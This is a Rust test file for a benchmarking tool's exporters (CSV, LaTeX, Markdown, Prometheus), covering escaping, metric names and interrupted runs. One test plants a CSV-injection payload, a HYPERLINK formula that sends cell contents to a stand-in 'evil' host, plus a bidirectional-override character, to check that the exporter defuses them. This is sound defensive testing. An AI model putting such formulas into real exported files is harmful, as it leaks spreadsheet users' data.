//! Every format of an example.

use keytoll_analysis::summary::Summary;

use super::*;
use crate::example;
use crate::study::tests::account;

const ALL: [Format; 4] = [Format::Csv, Format::Latex, Format::Markdown, Format::Prometheus];

fn texts(exported: Exported<'_>) -> String {
    ALL.map(|format| format!("---- {format:?}\n{}", exported.text(format))).concat()
}

fn run() -> Summary {
    example::findings().summary
}

#[test]
fn a_run_in_every_format() {
    let Summary { title, rows, .. } = &run();
    insta::assert_snapshot!(texts(Exported { title, rows, study: None, is_complete: true }));
}

#[test]
fn a_study_in_every_format() {
    let account = account();
    insta::assert_snapshot!(texts(Exported {
        title: &account.title,
        rows: &[],
        study: Some(&account),
        is_complete: true
    }));
}

#[test]
fn rows_and_findings_are_cases() {
    let Summary { title, rows, .. } = &run();
    let rows = Exported { title, rows, study: None, is_complete: true };
    let account = account();
    let study = Exported { title, rows: &[], study: Some(&account), is_complete: true };
    let texts = [
        rows.cases(|_| Expected::Success).text(),
        rows.cases(|_| Expected::Failure).text(),
        study.cases(|_| Expected::Success).text(),
    ];
    insta::assert_snapshot!(texts.join("\n"));
}

/// An export recognizes itself and no other format, nor a table of the run.
#[test]
fn exports_recognize_their_own_format() {
    let Summary { title, rows, .. } = &run();
    let exported = Exported { title, rows, study: None, is_complete: true };
    for written in ALL {
        let text = exported.text(written);
        for format in ALL {
            assert_eq!(format.is_in(text.as_bytes()), format == written, "{format:?} {written:?}");
        }
        assert!(!junit::is_one(text.as_bytes()), "{written:?}");
    }
    let suite = exported.cases(|_| Expected::Success).text();
    assert!(junit::is_one(suite.as_bytes()));
    let others = [&suite, "", "method,network\n", "# Notes\n", "% notes\n% more\n", "# HELP node_cpu\n"];
    assert!(others.iter().all(|other| ALL.iter().all(|format| !format.is_in(other.as_bytes()))));
}

#[test]
fn an_interrupted_run_is_a_failed_case() {
    let rows = run().rows;
    for (rows, told) in
        [(&rows[..0], "interrupted before anything was measured"), (&rows[..1], ": one row was measured")]
    {
        let junit::Case { outcome, .. } = interrupted(rows);
        assert!(matches!(&outcome, junit::Outcome::Failed(why) if why.contains(told)), "{outcome:?}");
    }
}

#[test]
fn markup_in_names_is_text() {
    let odd = "a|b & c_d <e> 50% #1 {x} $y^2 ~\\ `z` *w* [v]\u{7} µ÷×";
    let latex = latex::escaped(odd);
    assert_eq!(
        latex,
        "a\\textbar{}b \\& c\\_d \\textless{}e\\textgreater{} 50\\% \\#1 \\{x\\} \\$y\\textasciicircum{}2 \
         \\textasciitilde{}\\textbackslash{} `z` *w* [v]  \\textmu{}$\\div$$\\times$"
    );
    let markdown = markdown::escaped(odd);
    assert_eq!(markdown, "a\\|b &amp; c\\_d \\<e\\> 50% \\#1 {x} $y^2 \\~\\\\ \\`z\\` \\*w\\* \\[v\\]  µ÷×");
}

/// Every line of the exposition format is a comment or a sample: a name, labels, a number.
#[test]
fn metrics_have_valid_names() {
    let Summary { title, rows, .. } = &run();
    let text = Exported { title, rows, study: None, is_complete: true }.text(Format::Prometheus);
    let is_name = |name: &str| {
        !name.is_empty()
            && !name.starts_with(|first: char| first.is_ascii_digit())
            && name.chars().all(|letter| letter.is_ascii_alphanumeric() || letter == '_')
    };
    for line in text.lines().filter(|line| !line.starts_with("# ")) {
        let (head, value) = line.rsplit_once(' ').unwrap();
        let name = head.split_once('{').map_or(head, |(name, labels)| {
            assert!(labels.ends_with('}'), "{line}");
            name
        });
        assert!(is_name(name) && value.parse::<f64>().is_ok(), "{line}");
    }
    let families: Vec<&str> = text.lines().filter_map(|line| line.strip_prefix("# TYPE ")).collect();
    let unique: std::collections::BTreeSet<&&str> = families.iter().collect();
    assert!(families.len() > 10 && unique.len() == families.len(), "{families:?}");
}

/// Whatever tables are told together: a family stands once on a page, and in base units.
#[test]
fn every_column_of_every_table_has_a_family_of_its_own() {
    let mut families = std::collections::BTreeSet::new();
    for table in TABLES {
        for column in table.columns.iter().filter(|column| !is_name(column.head)) {
            let (_, family) = metrics::called(table.title, column.head, column.unit);
            let parts: Vec<&str> = family.split('_').collect();
            let abbreviated =
                parts.iter().find(|part| ["ms", "us", "ns", "kb", "mb", "mib", "kbit"].contains(part));
            assert_eq!(abbreviated, None, "{family}");
            assert!(families.insert(family.clone()), "{family} of {} and of another", table.title);
        }
    }
    for (head, unit, called) in [
        ("cpu s", "s", "keytoll_t_cpu_seconds"),
        ("cpu µs/device", "µs", "keytoll_t_cpu_per_device_seconds"),
        ("kB/device", "kB", "keytoll_t_per_device_bytes"),
        ("kbit/s", "kbit/s", "keytoll_t_bits_per_second"),
        ("asked/s", "devices", "keytoll_t_asked_per_second"),
        ("busiest s", "%", "keytoll_t_busiest_s_ratio"),
    ] {
        assert_eq!(metrics::called("T", head, unit).1, called, "{head}");
    }
}

/// The manifest of a foreign run has any text as a name.
#[test]
fn no_name_is_a_formula_of_a_spreadsheet() {
    let Summary { title, mut rows, .. } = run();
    rows[0].method = "=HYPERLINK(\"http://evil/\"&A1)".to_owned();
    rows[0].network = "@SUM(1+1)".to_owned();
    rows[0].variant = "a\u{202e}b".to_owned();
    let text = Exported { title: &title, rows: &rows, study: None, is_complete: true }.text(Format::Csv);
    let mut csv = csv::Reader::from_reader(text.as_bytes());
    let lines: Vec<_> = csv.records().map(Result::unwrap).collect();
    let begins = |first: char| lines.iter().flatten().filter(|cell| cell.starts_with(first)).count();
    assert_eq!(begins('=') + begins('@'), 0);
    assert!(lines.iter().flatten().any(|cell| cell == "'=HYPERLINK(\"http://evil/\"&A1)"));
    assert!(text.contains("'@SUM(1+1)") && text.contains("a b") && !text.contains('\u{202e}'));
    let cells = [("-0.5", "-0.5"), ("+1", "+1"), ("-", "'-"), ("=1", "'=1"), ("\t=1", "' =1"), (" a", " a")];
    cells.into_iter().for_each(|(text, cell)| assert_eq!(in_cell(text), cell));
}

/// Readers of a file do not see the message on stderr.
#[test]
fn tables_of_an_interrupted_run_say_so() {
    let Summary { title, rows, .. } = &run();
    let of = |is_complete, format| Exported { title, rows, study: None, is_complete }.text(format);
    for format in [Format::Csv, Format::Latex, Format::Markdown] {
        assert!(of(false, format).contains("run not complete"), "{format:?}");
        assert!(!of(true, format).contains("not complete"), "{format:?}");
    }
    for (is_complete, sample) in [(false, "\nkeytoll_run_complete 0\n"), (true, "\nkeytoll_run_complete 1\n")]
    {
        assert!(of(is_complete, Format::Prometheus).contains(sample), "{sample}");
    }
}
